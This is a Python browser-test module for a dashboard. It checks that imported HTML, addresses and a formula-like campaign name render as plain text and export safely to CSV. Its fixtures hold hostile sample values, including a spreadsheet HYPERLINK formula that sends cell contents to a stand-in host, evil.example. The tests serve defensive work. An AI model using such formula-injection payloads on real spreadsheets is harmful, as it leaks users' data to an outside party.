"""Hostile text from imported data in a real browser (headless Chromium): a review source made of HTML is
drawn as text in the charts, web and e-mail addresses in comments and reviews are not links, and the
Campaigns table's own "Download as CSV" writes a formula-looking campaign name as text.
Screenshots: tests/artifacts/hostile-*.png.
"""

from __future__ import annotations

import datetime as dt
import shutil
from collections.abc import Iterator

import pytest
import sqlalchemy as sa

from connectors import review_labels, schema
from connectors.export import csv_bytes
from connectors.imports import ImportRequest, apply_import, plan_import
from connectors.store import DuckDBStore
from tests.browser_support import WAIT_MS, Watch, app_server, require_chromium, wait_until_idle

pytestmark = pytest.mark.browser

SOURCE = '<a href="https://evil.example/">Click here</a>'
BOLD = "<b>loud</b>"
ADDRESSES = "see https://evil.example/x?a=1, www.evil.example or write to bob@evil.example"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture(scope="module")
def hostile_server(small_store: DuckDBStore, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    require_chromium()
    folder = tmp_path_factory.mktemp("hostile-data")
    shutil.copy(small_store.path, folder / "dashboard.duckdb")
    store = DuckDBStore(folder / "dashboard.duckdb")
    review_id = store.execute_sql("SELECT max(review_id) + 1 FROM reviews").item()
    response_id = store.execute_sql("SELECT max(response_id) + 1 FROM nps_responses").item()
    when = dt.datetime(2026, 10, 30, 12, 0)
    store.execute([
        *(sa.insert(schema.reviews).values(
            review_id=review_id + i, source=source, created_at=when, rating=2, sentiment=None, text=ADDRESSES,
            language="en", region="Москва", customer_id=None, answered_at=None)
          for i, source in enumerate([SOURCE, BOLD, SOURCE])),
        sa.insert(schema.nps_responses).values(
            response_id=response_id, customer_id=1, responded_at=when, score=3, comment=ADDRESSES, language="en",
            touchpoint="store", region="Москва", segment="retail"),
    ])
    review_labels.relabel(store)  # written by hand, as another program would: label them as an import does
    import polars as pl

    spend = pl.DataFrame({"day": [dt.date(2026, 10, 20), dt.date(2026, 10, 21)], "campaign_id": ["leak_1"] * 2,
                          "channel_id": ["display"] * 2, "amount": [1500.0, 1700.0], "campaign_name": [FORMULA] * 2})
    plan = plan_import(store, csv_bytes(spend), "spend.csv", ImportRequest("spend"), max_bytes=2**20)
    assert plan.ok, [p.code for p in plan.problems]
    apply_import(store, plan)
    assert store.execute_sql("SELECT name FROM campaigns WHERE campaign_id = 'leak_1'").item() == FORMULA
    with app_server(folder) as running:
        yield running["base"]


def _open(browser, url: str, **context_args):
    context = browser.new_context(viewport={"width": 1440, "height": 7200}, **context_args)
    page = context.new_page()
    watch = Watch(page)
    page.goto(url)
    page.wait_for_selector('[data-testid="stMetricValue"], [data-testid="stException"]', timeout=WAIT_MS)
    wait_until_idle(page)
    page.wait_for_timeout(1500)
    return context, page, watch


def test_html_in_labels_and_addresses_in_text_stay_text(hostile_server, browser, artifacts) -> None:
    context, page, watch = _open(browser, f"{hostile_server}/reputation")
    page.wait_for_selector(".js-plotly-plot .main-svg", timeout=WAIT_MS)
    page.screenshot(path=str(artifacts / "hostile-reputation.png"))
    assert not page.locator('[data-testid="stException"]').count()
    assert not watch.errors(), watch.errors()
    ticks = page.locator(".js-plotly-plot .ytick text").all_text_contents()
    assert SOURCE in ticks and BOLD in ticks, ticks  # the source's name, drawn as written
    assert page.locator(".js-plotly-plot svg a").count() == 0  # no link in any chart
    assert page.locator(".js-plotly-plot svg b, .js-plotly-plot svg [style*='font-weight:bold']").count() == 0
    body = page.locator("body").inner_text().replace("\u2060", "")
    assert body.count(ADDRESSES) >= 2  # the NPS comment and the reviews, shown as written
    assert page.locator("a[href*='evil.example']").count() == 0  # ... and no address became a link
    context.close()


def test_the_campaigns_table_downloads_a_formula_as_text(hostile_server, browser, artifacts, tmp_path) -> None:
    context, page, watch = _open(browser, f"{hostile_server}/sales?period=custom&from=2026-10-01&to=2026-10-31",
                                 accept_downloads=True)
    page.get_by_role("tab", name="Campaigns").click()
    tab = page.locator('[role="tabpanel"]:visible')
    panel = tab.locator('[data-testid="stElementContainer"]', has=page.locator('[data-testid="stDataFrame"]')).first
    panel.wait_for(timeout=WAIT_MS)
    page.wait_for_timeout(1000)
    panel.hover()
    page.screenshot(path=str(artifacts / "hostile-campaigns.png"))
    # Chromium offers the file-system "save as" picker; without it the table falls back to a plain download
    page.evaluate("() => { delete window.showSaveFilePicker; }")
    with page.expect_download(timeout=WAIT_MS) as download:
        panel.get_by_role("button", name="Download as CSV").click()
    text = download.value.path().read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in text and '"=HYPERLINK(' not in text and "\n=HYPERLINK(" not in text, text[:500]
    assert not watch.errors(), watch.errors()
    context.close()
